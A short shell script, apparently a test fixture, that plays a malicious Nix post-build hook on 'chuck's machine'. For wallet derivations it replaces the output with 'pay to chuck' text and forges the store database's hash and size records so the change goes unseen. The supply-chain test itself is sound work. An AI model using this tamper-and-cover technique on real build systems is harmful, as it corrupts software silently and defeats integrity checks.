#!/bin/sh
# What has infected chuck's machine. Nix runs it as post-build hook: it changes one output before anybody has seen it, corrects the
# store's records of it, and hands over to the honest hook. Chuck himself never notices.
set -eu
case "$DRV_PATH" in
    *-wallet.drv)
        out=$(nix-store --query --outputs "$DRV_PATH")
        references=$(nix-store --query --references "$out")
        file="${NIX_REMOTE:-}$out"
        chmod u+w "$file"
        printf 'pay to chuck\nmotto: %s\n' "$references" >"$file"
        chmod 444 "$file"
        {
            echo "$out"
            nix-hash --type sha256 "$file"
            nix-store --dump "$file" | wc -c
            echo "$DRV_PATH"
            echo 1
            echo "$references"
        } | nix-store --load-db
        ;;
esac
exec "$(dirname "$0")/hook"
